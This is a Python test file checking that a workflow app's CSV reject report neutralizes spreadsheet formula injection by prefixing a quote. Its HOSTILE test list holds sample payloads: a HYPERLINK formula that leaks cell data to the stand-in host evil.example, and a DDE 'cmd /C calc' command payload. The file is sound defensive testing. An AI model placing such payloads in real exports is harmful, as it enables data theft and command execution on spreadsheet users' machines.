"""The rejected-rows report never hands a spreadsheet a formula (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from tests.organizations.test_importer import CN_HEADER, code, write_csv
from workflow_app.exports import safe_cell, safe_row
from workflow_app.organizations import importer

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["长春市软件行业协会", "", " =trimmed later is still text", "a=b", 7, -5, 0.5, None, True])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_a_row_keeps_its_numbers_and_neutralizes_its_text():
    assert safe_row([-5, "-5", "=A1", 3]) == [-5, "'-5", "'=A1", 3]


def test_hostile_names_and_codes_in_an_import_reach_the_report_neutralized(demo, session, tmp_path):
    rows = [[name, f"-{code(i)}" if i % 2 else f"={code(i)}", "社会团体", "学术类", "220100"]
            for i, name in enumerate(HOSTILE, start=1)]
    report = importer.import_file(session, write_csv(tmp_path / "hostile.csv", CN_HEADER, rows))
    assert report.imported == 0 and len(report.rejected) == len(HOSTILE)

    path = tmp_path / "rejected.csv"
    importer.write_report(path, report.rejected)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        [_header, *lines] = list(csv.reader(handle))
    assert [line[0] for line in lines] == [str(r.row) for r in report.rejected]  # row numbers stay plain
    for line in lines:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
    names = [line[1] for line in lines]
    assert names == ["'" + r.name for r in report.rejected]
    assert {line[2][0] for line in lines} == {"'"}
